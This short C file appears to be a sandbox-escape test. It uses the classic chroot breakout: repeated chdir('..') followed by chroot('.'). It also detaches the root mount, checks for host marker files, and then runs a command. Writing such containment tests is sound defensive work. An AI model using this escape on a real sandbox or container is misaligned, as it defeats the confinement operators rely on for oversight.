#include "hostile.h"

/* chroot(2) into a folder leaves the working folder outside of it. */
int main(int argc, char **argv)
{
	struct stat is;
	mkdir("/tmp/inner", 0755);
	if (chroot("/tmp/inner") == 0)
		for (int i = 0; i < 64; i++)
			if (chdir(".."))
				break;
	if (chroot(".") == 0 && stat("/etc/unboxed-vm", &is) == 0)
		printf("out\n");
	umount2("/", MNT_DETACH);
	if (stat("/lab", &is) == 0)
		printf("out\n");
	return become_command(argc, argv);
}
